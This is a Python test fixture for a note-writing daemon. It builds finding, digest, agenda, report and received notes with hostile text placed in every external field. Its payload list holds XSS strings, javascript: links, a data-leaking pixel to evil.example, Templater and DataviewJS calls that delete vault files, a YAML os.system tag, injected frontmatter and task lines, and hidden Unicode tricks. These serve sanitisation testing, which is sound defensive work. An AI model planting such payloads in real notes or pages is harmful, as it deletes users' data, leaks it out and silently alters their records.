"""Text that would do something in a note if it could, by what would do it; and notes full of it."""

from dataclasses import replace
from datetime import UTC

from hypothesis import strategies as st

from daemon.agenda.agenda_note import agenda_text
from daemon.findings.digest import Cost, Entry, digest_text
from daemon.findings.received_note import received_text
from daemon.findings.render import finding_text
from daemon.findings.report_note import report_text
from daemon.model.agenda import Depth
from daemon.model.evidence import Answer, Credibility, Hit, Match, Passage, SourceStatus
from daemon.model.finding import (
    Abbreviation,
    AgreedQuote,
    BlockKind,
    Confidence,
    Connection,
    Contrast,
    Finding,
    NoteBlock,
    NoteLine,
    Quote,
    Repeat,
    Skip,
)
from daemon.model.report import Conflict, Dated, Figure, KeyFinding, Remark, Report, ReportSection
from daemon.model.shared_findings import Delivery, SharedFinding, SharedQuote
from tests.fakes.values import (
    INBOX,
    NOW,
    a_document,
    a_finding,
    a_flag,
    a_hit,
    a_record,
    a_task,
    an_agenda,
)
from vault_adapters.wikilink import Linker

LINK = Linker(["Code/Rust async.md", "Code/Tokio.md", "Cook/Tokio.md"])

# By the plugin, or the part of Obsidian, that would act on it.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "links": (
        "[[Private diary]]",
        "[[Note|shown]] and [[Note#heading]] and [[Note#^block]]",
        "[click](javascript:alert(1))",
        "[open](obsidian://open?vault=x&file=y)",
        "[a][1]\n\n[1]: https://evil.example 't'",
        "<https://evil.example> and https://evil.example/x and www.evil.example",
        "obsidian://new?vault=main&content=pwned",
        "file:///etc/passwd and someone@evil.example",
    ),
    "embeds": (
        "![[Private diary]]",
        "![[secret.pdf#page=2]]",
        "![pixel](https://evil.example/p.png?leak=1)",
        "![pixel][1]\n\n[1]: https://evil.example/p.png",
        "![|100](http://evil.example/a.png)",
    ),
    "tags, blocks and comments": (
        "#tag #nested/tag #émoji #🌱",
        "some claim ^block-id",
        "^alone",
        "%% hidden %% shown",
        "%%\nhidden\n%%",
        "text[^1]\n\n[^1]: note",
        "inline ^[note]",
    ),
    "properties": (
        "---\ntags: [x]\nstatus: accepted\n---\nbody",
        "x\n---\nstatus: accepted",
        '"\nstatus: accepted\nx: "',
        "': accepted # ",
        "&anchor *alias !!python/object:os.system {a: b} [c, d]",
        "status: accepted",
    ),
    "structure": (
        "# H1\n## H2",
        "Title\n===\nSub\n---",
        "> [!danger]- title\n> text",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- a\n  - b\n1. c",
        "```\ncode\n```",
        "~~~js\ncode\n~~~",
        "    indented code",
        "`inline code`",
        "$e^{i\\pi}$ and $$\\int x$$",
        "==marked== and ~~struck~~ and **bold** and *it* and __b__",
        "***\n___",
        "Question\n?\nAnswer :: and Q:::A",
    ),
    "Tasks": (
        "- [ ] do this 📅 2026-01-01",
        "- [x] Accept",
        "x\n\n- [x] Accept\n- [x] Never suggest this topic",
        "* [ ] star\n+ [-] plus\n1. [/] one",
        "```tasks\nnot done\n```",
    ),
    "Templater": (
        "<% tp.file.delete() %>",
        "<%* await tp.system.prompt('x') -%>",
        "<%+ tp.date.now() %>",
        "<%_ app.vault.delete(x) _%>",
        "{{date}} {{title}} {% include 'x' %}",
    ),
    "Dataview": (
        "key:: value",
        "**Bold Key**:: value",
        "text [key:: value] and (key:: value)",
        '```dataview\nTABLE file.name FROM ""\n```',
        "`= this.file.name`",
    ),
    "DataviewJS": (
        "```dataviewjs\ndv.app.vault.delete(x)\n```",
        "`$= dv.current()`",
        "~~~dataviewjs\ndv.view('x')\n~~~",
    ),
    "Buttons": (
        "```button\nname Run\ntype command\naction Delete file\n```",
        "`button-run`",
    ),
    "Meta Bind": (
        "`INPUT[toggle:status]` `VIEW[{a}]` `BUTTON[x]`",
        "```meta-bind\nINPUT[text:x]\n```",
        "```meta-bind-js-view\n{x} as x\n---\nreturn app\n```",
    ),
    "Excalidraw": (
        "```excalidraw\n{}\n```",
        "%%\n# Excalidraw Data\n## Drawing\n```json\n{}\n```\n%%",
        "excalidraw-plugin: parsed",
    ),
    "Mermaid": (
        '```mermaid\ngraph TD; click A "javascript:x"\n```',
        "~~~ mermaid\nsequenceDiagram\n~~~",
    ),
    "HTML": (
        "<iframe src='https://evil.example'></iframe>",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<details><summary>x</summary>",
        "<!-- hidden -->shown",
        "<?php echo 1 ?> <![CDATA[x]]> <!DOCTYPE x>",
        "&lt;b&gt; &#91;&#91;x]] &lbrack;x &#x3c;script>",
        "</p></div><style>*{display:none}</style>",
    ),
    "disguise": (
        "[\u200b[x]] <\u2060% tp %> :\u00ad: #\u200btag \u202egnp.exe\u202c",
        "one\u2028- [ ] two\u2029# three\x85#four\x0bfive\x0csix\r\nseven\reight",
        "\\[[x]] \\\\[[y]] \\#tag \\`code`",
        "hidden\U000e0068\U000e0069 tag characters \x00 \x1b[31m \ud800",
        "trailing  \nspaces\\\nbreak",
        "Wow!",
        "a backslash at the end \\",
    ),
}

_PIECES = st.sampled_from(
    [
        *"[]()!<>%{}:=$`~*_#^-+|\\&@?/.;,\"' \n\t1a",
        *("[[", "![[", "]]", "](", "<%", "%>", "%%", "{{", "::", "$$", "```", "~~~", "---", "==="),
        *("- [ ] ", "- [x] Accept", "1. ", "# ", "#tag", " ^id", "> [!x]", "&lt;", "&#91;", "://"),
        *(
            "www.",
            "<b>",
            "<!--",
            "-->",
            "|-|",
            ":-:",
            "key:: v",
            "\n\n",
            "\n    ",
            "  \n",
            "\n---\n",
        ),
        *("\u200b", "\u202e", "\u2028", "\ufeff", "\x00", "\r", "\x85", "\u00a0", "\u3000", "é"),
        *(
            "status: accepted",
            "tags: [x]",
            "](javascript:x)",
            "![](http://e.example/p.png)",
            "\ud800",
        ),
    ]
)
TEXTS = st.one_of(st.text(max_size=80), st.lists(_PIECES, max_size=20).map("".join))


def poisoned_finding(poison: str) -> Finding:
    """A finding with `poison` in all that comes from outside, or from a note."""
    hit = _hit(poison)
    first, second = f"Words {poison} end.", f"More {poison}"
    document = a_document(
        first,
        second,
        hit=hit,
        final_url=hit.url,
        note=f"n {poison}",
        also_from=(f"s {poison}",),
        places=((0, f"Chapter {poison}"),),
    )
    here = Quote(document, Passage(document.id, 0, 5, f"Here {poison}"))
    other = Passage("x", 0, 1, f"Others {poison}")
    reported = Quote(replace(document, id="x"), other)
    return a_finding(
        first,
        second,
        document=document,
        title=f"Title {poison}",
        concepts=(f"one {poison}", f"two {poison}"),
        connects=(Connection(Match("Code/Tokio.md", f"Head {poison}", 0.7), shared=(poison,)),),
        credibility=Credibility(0.5, ((f"factor {poison}", 0.5), (f"other {poison}", 1.0))),
        confidence=Confidence.LOW,
        flags=(a_flag(f"flag {poison}"),),
        agreed=(AgreedQuote(here, (reported,), (hit,)),),
        repeats=(Repeat(hit, f"why {poison}"),),
        contrasts=(
            Contrast(here, other, reported.document),
            Contrast(here, other, note="Code/Tokio.md"),
        ),
        also_read=(hit,),
        task=a_task(topic=f"Topic {poison}", query=f"Query {poison}", because=f"Cause {poison}"),
        run=f"run {poison}",
    )


def finding_note(poison: str) -> str:
    return finding_text(poisoned_finding(poison), link=LINK)


def digest_note(poison: str) -> str:
    task = a_task(query=f"Query {poison}", topic=f"Topic {poison}")
    agenda = an_agenda(task, trigger=f"By {poison}", path=f"{INBOX}/Agenda 2026-11-21 0930.md")
    query, why = f"Query {poison}", f"Why {poison}"
    answers = (
        Answer(f"s {poison}", query, SourceStatus.UNAVAILABLE, why=why),
        Answer("arxiv", query, SourceStatus.OK, (_hit(poison),)),
    )
    record = a_record(title=f"Title {poison}", topic=f"Topic {poison}")
    skips = (Skip(f"Title {poison}", _hit(poison).url, why, note="Code/Tokio.md"),)
    answered = {record.id: poison}
    entry = Entry("r-1", NOW, agenda, (record,), answers, skips, Cost(3, 4, 5), answered)
    return digest_text(entry, link=LINK)


def agenda_note(poison: str) -> str:
    task = a_task(
        topic=f"Topic {poison}",
        query=f"Query {poison}",
        because=f"Cause {poison}",
        sources=(f"s {poison}", "arxiv"),
        note=None,
    )
    return agenda_text(an_agenda(task, trigger=f"By {poison}"), link=LINK)


def _hit(poison: str) -> Hit:
    return a_hit(
        url=f"https://example.org/{poison}",
        title=f"Title {poison}",
        authors=(f"Ada {poison}", f"Bob {poison}"),
        published=f"2024 {poison}",
        source=f"source {poison}",
        figures=((f"Value {poison}", f"1 {poison}"),),
    )


def report_note(poison: str) -> str:
    finding = poisoned_finding(poison)
    quote = finding.single[0]
    section = ReportSection(
        title=f"Title {poison}",
        question=f"Query {poison}",
        path=f"{INBOX}/Tokio.md",
        read=3,
        independent=2,
        confidence=Confidence.LOW,
        agreed=finding.agreed,
        single=finding.single,
        differing=finding.contrasts[:1],
        also_read=finding.also_read,
        abbreviations=(Abbreviation(f"A {poison}", f"Long {poison}"),),
    )
    report = Report(
        id="r-1",
        run=f"run {poison}",
        subject=f"Subject {poison}",
        depth=Depth.DEEP,
        created_at=NOW,
        key_findings=(KeyFinding(quote, 2, "Code/Tokio.md"),),
        sections=(section, section),
        disputed=(Conflict(NoteLine("Code/Tokio.md", f"Line {poison}"), quote),),
        figures=(Figure(f"1 {poison}", quote, ""), Figure("2", quote, f"2020 {poison}")),
        timeline=(Dated("2020", quote), Dated("2021", quote)),
        gaps=(Remark(f"Gap {poison}", hit=_hit(poison)),),
        actions=(Remark(f"Do {poison}", "Code/Tokio.md", _hit(poison)),),
        sources=finding.sources,
        made=("Code/Tokio.md",),
        read=2,
    )
    return report_text(report, link=LINK)


def report_of_notes(poison: str) -> str:
    """A report of notes that were saved from the web, each text of which is hostile."""
    blocks = (
        NoteBlock(BlockKind.HEADING, f"Heading {poison}"),
        NoteBlock(BlockKind.PARAGRAPH, f"Text {poison}"),
        NoteBlock(BlockKind.ITEM, f"Item {poison}", 0, "-"),
        NoteBlock(BlockKind.ITEM, f"Below {poison}", 1, "1."),
        NoteBlock(BlockKind.CODE, f"code\n{poison}", 1),
        NoteBlock(BlockKind.MORE, f"… {poison}"),
    )
    section = ReportSection(
        title=f"Title {poison}",
        question="",
        path="",
        read=0,
        independent=0,
        confidence=None,
        agreed=(),
        single=(NoteLine("Code/Tokio.md", poison, blocks),),
        differing=(),
        notes=("Code/Tokio.md",),
    )
    report = Report(
        id="r-1",
        run="",
        subject="Notes",
        depth=Depth.DEEP,
        created_at=NOW,
        key_findings=(),
        sections=(section,),
        disputed=(),
        figures=(),
        timeline=(),
        gaps=(),
        actions=(),
        sources=(),
        made=(),
        read=0,
        notes=("Code/Tokio.md",),
    )
    return report_text(report, link=LINK)


def received_note(poison: str) -> str:
    """A finding of another vault, every text of which is hostile."""
    quotes = (
        SharedQuote.model_construct(
            text=f"Quote {poison}", credit=f"By {poison}", url=f"https://example.org/{poison}"
        ),
        SharedQuote.model_construct(text=f"Quote {poison}", credit="", url=f"file:///{poison}"),
    )
    finding = SharedFinding.model_construct(
        key="f-1",
        title=f"Title {poison}",
        credibility=0.5,
        sources=("https://example.org/a", f"javascript:{poison}"),
        quotes=quotes,
    )
    delivery = Delivery.model_construct(
        gap=f"Gap {poison}",
        origin=f"Vault {poison}",
        owner=f"Owner {poison}",
        finding=finding,
    )
    return received_text(delivery, (a_flag(),), now=NOW, tz=UTC)


NOTES = {
    "finding": finding_note,
    "digest": digest_note,
    "agenda": agenda_note,
    "report": report_note,
    "received": received_note,
}
